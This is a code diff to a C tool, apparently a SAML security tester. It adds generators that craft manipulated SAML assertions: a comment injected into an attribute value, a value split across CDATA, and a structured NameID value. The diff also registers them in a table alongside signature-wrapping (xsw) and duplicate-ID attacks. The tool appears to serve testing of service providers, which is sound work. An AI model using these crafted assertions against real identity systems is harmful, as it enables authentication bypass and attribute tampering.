@@ -262,6 +262,101 @@ static int attack_comment_nameid(gen_t *g)
     return 0;
 }
 
+/* The last AttributeValue of the assertion (of its last Attribute with a
+ * value), or NULL. */
+static xmlNodePtr last_attribute_value(gen_t *g)
+{
+    xmlNodePtr st, attr, val, last = NULL;
+
+    for (st = g->assertion->children; st != NULL; st = st->next) {
+        if (st->type != XML_ELEMENT_NODE
+            || strcmp((const char *)st->name, "AttributeStatement") != 0) {
+            continue;
+        }
+        for (attr = st->children; attr != NULL; attr = attr->next) {
+            for (val = attr->children; val != NULL; val = val->next) {
+                if (val->type == XML_ELEMENT_NODE
+                    && strcmp((const char *)val->name, "AttributeValue") == 0) {
+                    last = val;
+                }
+            }
+        }
+    }
+    return last;
+}
+
+/*
+ * comment-attr (before signing): an empty comment after the text of the
+ * last AttributeValue ("suspended<!---->").  Exclusive c14n drops
+ * comments, so the signature still verifies; an SP that skips values
+ * holding markup silently loses the value.
+ */
+static int attack_comment_attr(gen_t *g)
+{
+    xmlNodePtr val = last_attribute_value(g);
+
+    if (val == NULL) {
+        return fail("comment-attr: no AttributeValue (give --attr)");
+    }
+    xmlAddChild(val, xmlNewDocComment(g->doc, BAD_CAST ""));
+    return 0;
+}
+
+/*
+ * cdata-attr (before signing): the last AttributeValue's text split into
+ * a text node and a CDATA section ("sus<![CDATA[pended]]>"), which c14n
+ * writes as the same characters.
+ */
+static int attack_cdata_attr(gen_t *g)
+{
+    xmlNodePtr val = last_attribute_value(g);
+    xmlChar *text;
+    size_t len, half;
+
+    if (val == NULL) {
+        return fail("cdata-attr: no AttributeValue (give --attr)");
+    }
+    text = xmlNodeGetContent(val);
+    len = text != NULL ? strlen((const char *)text) : 0;
+    if (len < 2) {
+        xmlFree(text);
+        return fail("cdata-attr: the value needs two characters or more");
+    }
+    half = len / 2;
+    xmlNodeSetContent(val, NULL);
+    xmlAddChild(val, xmlNewDocTextLen(g->doc, text, (int)half));
+    xmlAddChild(val, xmlNewCDataBlock(g->doc, text + half,
+                                      (int)(len - half)));
+    xmlFree(text);
+    return 0;
+}
+
+/*
+ * structured-attr (before signing): the last AttributeValue holds a
+ * saml:NameID element with its text, as eduPersonTargetedID is sent: a
+ * legitimate value that is not a string.
+ */
+static int attack_structured_attr(gen_t *g)
+{
+    xmlNodePtr val = last_attribute_value(g);
+    xmlNodePtr nameid;
+    xmlChar *text;
+
+    if (val == NULL) {
+        return fail("structured-attr: no AttributeValue (give --attr)");
+    }
+    text = xmlNodeGetContent(val);
+    xmlNodeSetContent(val, NULL);
+    nameid = add_el(val, NULL, "NameID", (const char *)text);
+    xmlFree(text);
+    if (nameid == NULL) {
+        return fail("structured-attr: out of memory");
+    }
+    add_prop(nameid, "Format",
+             "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent");
+    return 0;
+}
+
 /* deep (before signing): an AttributeValue nesting --deep-levels elements. */
 static int attack_deep(gen_t *g)
 {
@@ -446,6 +541,9 @@ static const attack_t attacks[] = {
     { "xsw7", PHASE_POST, SIGN_ASSERTION, attack_xsw7 },
     { "xsw8", PHASE_POST, SIGN_ASSERTION, attack_xsw8 },
     { "comment-nameid", PHASE_PRE, 0, attack_comment_nameid },
+    { "comment-attr", PHASE_PRE, 0, attack_comment_attr },
+    { "cdata-attr", PHASE_PRE, 0, attack_cdata_attr },
+    { "structured-attr", PHASE_PRE, 0, attack_structured_attr },
     { "deep", PHASE_PRE, 0, attack_deep },
     { "two-assertions", PHASE_MID, 0, attack_two_assertions },
     { "dup-id", PHASE_MID, 0, attack_dup_id },
